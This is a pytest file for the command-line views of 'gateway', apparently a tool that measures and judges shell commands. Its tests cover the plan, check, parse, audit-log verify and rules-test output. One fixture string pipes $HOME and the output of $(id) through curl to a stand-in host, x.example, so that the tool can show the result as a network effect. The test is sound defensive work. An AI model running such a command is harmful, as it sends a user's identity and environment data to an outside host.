"""
The readable view of ``gateway plan``, ``check``, ``parse``, ``verify`` and ``rules test``.

On a terminal they print a view for a person; piped (or with ``--json``) the
very JSON they always printed. The terminal is real where it matters: a
pseudo-terminal, the way a shell runs the command; the other tests stand in
for it by telling the view module that standard output is one.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

from gateway._cli import _view, main

HEREDOC = "cd src && grep -rn TODO . > out.txt; cat <<EOF | curl -d @- https://x.example\n$HOME $(id)\nEOF\n"


def on_terminal(*args: str, env: dict[str, str] | None = None) -> str:
    """What ``gateway ARGS`` writes to a pseudo-terminal (its standard output)."""
    primary, secondary = pty.openpty()
    environment = {key: value for key, value in os.environ.items() if key != "NO_COLOR"}
    environment.update(env or {})
    environment["TERM"] = "xterm"
    process = subprocess.Popen(
        [sys.executable, "-m", "gateway._cli", *args],
        stdout=secondary,
        stdin=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env=environment,
    )
    os.close(secondary)
    received = b""
    while True:
        try:
            chunk = os.read(primary, 65_536)
        except OSError:  # the terminal closes when the process exits
            break
        if not chunk:
            break
        received += chunk
    os.close(primary)
    process.wait(timeout=120)
    return received.decode().replace("\r\n", "\n")


def piped(*args: str) -> str:
    return subprocess.run(
        [sys.executable, "-m", "gateway._cli", *args],
        capture_output=True,
        check=False,
        timeout=120,
        stdin=subprocess.DEVNULL,
    ).stdout.decode()


def test_plan_on_a_terminal_is_a_coloured_tree_and_piped_is_json() -> None:
    shown = on_terminal("plan", HEREDOC)
    assert "\x1b[" in shown
    plain = on_terminal("plan", HEREDOC, env={"NO_COLOR": "1"})
    assert "\x1b[" not in plain
    lines = plain.splitlines()
    assert lines[0].startswith("plan measured  sha256:")
    assert "  statement 1: cd src && grep -rn TODO . > out.txt" in lines
    assert "    $ grep -rn TODO ." in lines
    assert "      program: grep" in lines
    assert "      write ./src/out.txt  via >" in lines
    assert "      network connect https://x.example  via curl" in lines
    assert "    $ id  (heredoc)" in lines
    assert "    hole: $(id) (the heredoc's text depends on what it prints)" in lines
    assert "effects (6)" in lines
    data = piped("plan", HEREDOC)
    assert json.loads(data)["status"] == "measured"
    assert on_terminal("plan", "--json", HEREDOC) == data


def test_an_unmeasured_plan_says_why_on_a_terminal() -> None:
    plain = on_terminal("plan", "echo $(", env={"NO_COLOR": "1"})
    assert plain.splitlines()[0].startswith("plan unmeasured")
    assert "unterminated" in plain.splitlines()[1]


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """Standard output counts as a terminal; no colour, so the text is compared as is."""
    monkeypatch.setattr(_view, "_is_terminal", lambda: True)
    monkeypatch.setenv("NO_COLOR", "1")


def test_check_shows_each_verdict_with_its_rule(
    terminal: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    calls = tmp_path / "calls.jsonl"
    calls.write_text('{"id": "1", "cmd": "ls -la"}\nnot json\n')
    assert main(["check", str(calls)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "ALLOW  1"
    assert lines[1] == "  Allowed `ls -la`: rule read.look only lists or describes files."
    assert lines[2] == "  rule read.look, by rules"
    assert lines[3] == "DECLINE"
    assert lines[4].startswith("  Line 2 is not valid JSON")
    assert lines[5] == "  no rule"
    assert main(["check", "--json", str(calls)]) == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [row["decision"] for row in rows] == ["allow", "decline"]


def test_parse_shows_the_tree_both_readers_agree_on(
    terminal: None, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["parse", "echo hi > x"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "measured (both shell readers agree)"
    assert "        commands: simple" in lines
    assert "          redirects: operator='>'" in lines
    assert "          words: 'echo'" in lines
    assert main(["parse", "--json", "echo hi"]) == 0
    assert json.loads(capsys.readouterr().out)["status"] == "measured"


def test_verify_says_intact_or_which_record_breaks(
    terminal: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    calls = tmp_path / "calls.jsonl"
    calls.write_text('{"id": "1", "cmd": "ls"}\n{"id": "2", "cmd": "pwd"}\n')
    log = tmp_path / "audit.jsonl"
    assert main(["check", "--audit", str(log), str(calls)]) == 0
    capsys.readouterr()
    assert main(["verify", str(log)]) == 0
    intact = capsys.readouterr().out.splitlines()
    assert intact[0] == f"intact  {log}: the hash chain holds."
    assert intact[1].strip().startswith("The log is intact: ")
    assert "records, 1 sessions, 0 signed checkpoints" in intact[2]
    records = log.read_text().splitlines()
    log.write_text("\n".join([records[0], *records[2:]]) + "\n")
    assert main(["verify", str(log)]) == 1
    shown = capsys.readouterr().out
    assert shown.startswith(f"BROKEN  {log}: record 2 (seq ")
    assert "breaks the chain" in shown


def test_rules_test_lists_failures_and_a_tally(
    terminal: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "team.toml"
    path.write_text(
        '[[rule]]\nid = "team.x"\ndecision = "ask"\nprograms = ["x"]\nreason = "r"\n'
        'match = ["x run", "y run"]\n'
    )
    assert main(["rules", "test", "--no-default", str(path)]) == 1
    # Every example is judged under both profiles of the policy.
    assert capsys.readouterr().out.splitlines() == [
        f"FAIL  team.x ({path}): expected match for `y run` under read-only",
        "      the rule does not apply to it",
        f"FAIL  team.x ({path}): expected match for `y run` under workspace-write",
        "      the rule does not apply to it",
        "1 rules, 4 examples: 2 passed, 2 failed",
    ]
    assert main(["rules", "test", "--json", "--no-default", str(path)]) == 1
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert rows[-1] == {"rules": 1, "examples": 4, "passed": 2, "failed": 2}


def test_colour_follows_the_terminal_and_no_color(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_view, "_is_terminal", lambda: True)
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm")
    assert _view.Style().decision("allow") == "\x1b[32mALLOW\x1b[0m"
    monkeypatch.setenv("NO_COLOR", "1")
    assert _view.Style().decision("allow") == "ALLOW"
    monkeypatch.delenv("NO_COLOR")
    monkeypatch.setenv("TERM", "dumb")
    assert _view.Style().decision("allow") == "ALLOW"
    monkeypatch.setattr(_view, "_is_terminal", lambda: False)
    monkeypatch.setenv("TERM", "xterm")
    assert _view.Style().decision("allow") == "ALLOW"
